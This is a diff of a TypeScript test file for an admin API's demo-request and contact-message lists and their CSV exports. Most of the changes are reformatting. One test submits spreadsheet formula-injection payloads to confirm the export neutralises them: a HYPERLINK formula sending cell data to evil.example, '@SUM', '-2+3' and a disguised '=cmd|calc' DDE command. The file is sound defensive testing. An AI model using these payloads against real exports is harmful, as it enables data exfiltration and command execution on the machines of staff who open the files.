@@ -8,10 +8,27 @@ const email = 'dana@sanduskybay.example'
 itIsAnOfficeList({
   url: '/api/admin/demo-requests',
   add: async (db, at) => {
-    const row = { full_name: 'Dana Ortiz', email, phone: '216 555 0142', filter_types: 'dpf', preferred_date: '2026-04-01', created_at: at } as const
-    return (await db.insertInto('demo_requests').values(row).returning('id').executeTakeFirstOrThrow()).id
+    const row = {
+      full_name: 'Dana Ortiz',
+      email,
+      phone: '216 555 0142',
+      filter_types: 'dpf',
+      preferred_date: '2026-04-01',
+      created_at: at,
+    } as const
+    return (
+      await db.insertInto('demo_requests').values(row).returning('id').executeTakeFirstOrThrow()
+    ).id
   },
-  shown: { fullName: 'Dana Ortiz', companyName: null, email, phone: '216 555 0142', preferredDate: '2026-04-01', filterTypes: 'dpf', comments: null },
+  shown: {
+    fullName: 'Dana Ortiz',
+    companyName: null,
+    email,
+    phone: '216 555 0142',
+    preferredDate: '2026-04-01',
+    filterTypes: 'dpf',
+    comments: null,
+  },
   audited: { action: 'list_read', kind: 'demo_requests' },
   search: 'ORTIZ',
   file: {
@@ -25,12 +42,18 @@ itIsAnOfficeList({
   url: '/api/admin/contact-messages',
   add: async (db, at) => {
     const row = { name: 'Dana Ortiz', email, message: 'Do you clean DOCs?', created_at: at }
-    return (await db.insertInto('contact_messages').values(row).returning('id').executeTakeFirstOrThrow()).id
+    return (
+      await db.insertInto('contact_messages').values(row).returning('id').executeTakeFirstOrThrow()
+    ).id
   },
   shown: { name: 'Dana Ortiz', email, phone: null, message: 'Do you clean DOCs?' },
   audited: { action: 'list_read', kind: 'contact_messages' },
   search: 'Clean docs',
-  file: { name: 'contact-messages', head: 'Sent on,Name,Email,Phone,Message', line: `2026-03-05,Dana Ortiz,${email},,Do you clean DOCs?` },
+  file: {
+    name: 'contact-messages',
+    head: 'Sent on,Name,Email,Phone,Message',
+    line: `2026-03-05,Dana Ortiz,${email},,Do you clean DOCs?`,
+  },
 })
 
 test('what a visitor typed runs in no spreadsheet', async () => {
@@ -38,14 +61,29 @@ test('what a visitor typed runs in no spreadsheet', async () => {
   const staff = await signedInStaff(testApp)
   const formula = '=HYPERLINK("http://evil.example/?"&A1;"Click")'
   const sent = await Promise.all([
-    testApp.app.inject({ method: 'POST', url: '/api/contact-messages', payload: { name: '@SUM(A1:A9)', email, phone: '+1 216 555 0142', message: formula } }),
     testApp.app.inject({
-      method: 'POST', url: '/api/demo-requests',
-      payload: { fullName: '-2+3', companyName: '\uff1dcmd|calc', email, phone: '+1 216 555 0142', comments: `${formula}\nand "more", please` },
+      method: 'POST',
+      url: '/api/contact-messages',
+      payload: { name: '@SUM(A1:A9)', email, phone: '+1 216 555 0142', message: formula },
+    }),
+    testApp.app.inject({
+      method: 'POST',
+      url: '/api/demo-requests',
+      payload: {
+        fullName: '-2+3',
+        companyName: '\uff1dcmd|calc',
+        email,
+        phone: '+1 216 555 0142',
+        comments: `${formula}\nand "more", please`,
+      },
     }),
   ])
   expect(sent.map(({ statusCode }) => statusCode)).toEqual([201, 201])
   const quoted = `"'${formula.replaceAll('"', '""')}`
-  expect((await staff.call('GET', '/api/admin/contact-messages.csv')).text).toContain(`,'@SUM(A1:A9),${email},+1 216 555 0142,${quoted}"\r\n`)
-  expect((await staff.call('GET', '/api/admin/demo-requests.csv')).text).toContain(`,'-2+3,'\uff1dcmd|calc,${email},+1 216 555 0142,,,${quoted}\nand ""more"", please"\r\n`)
+  expect((await staff.call('GET', '/api/admin/contact-messages.csv')).text).toContain(
+    `,'@SUM(A1:A9),${email},+1 216 555 0142,${quoted}"\r\n`,
+  )
+  expect((await staff.call('GET', '/api/admin/demo-requests.csv')).text).toContain(
+    `,'-2+3,'\uff1dcmd|calc,${email},+1 216 555 0142,,,${quoted}\nand ""more"", please"\r\n`,
+  )
 })
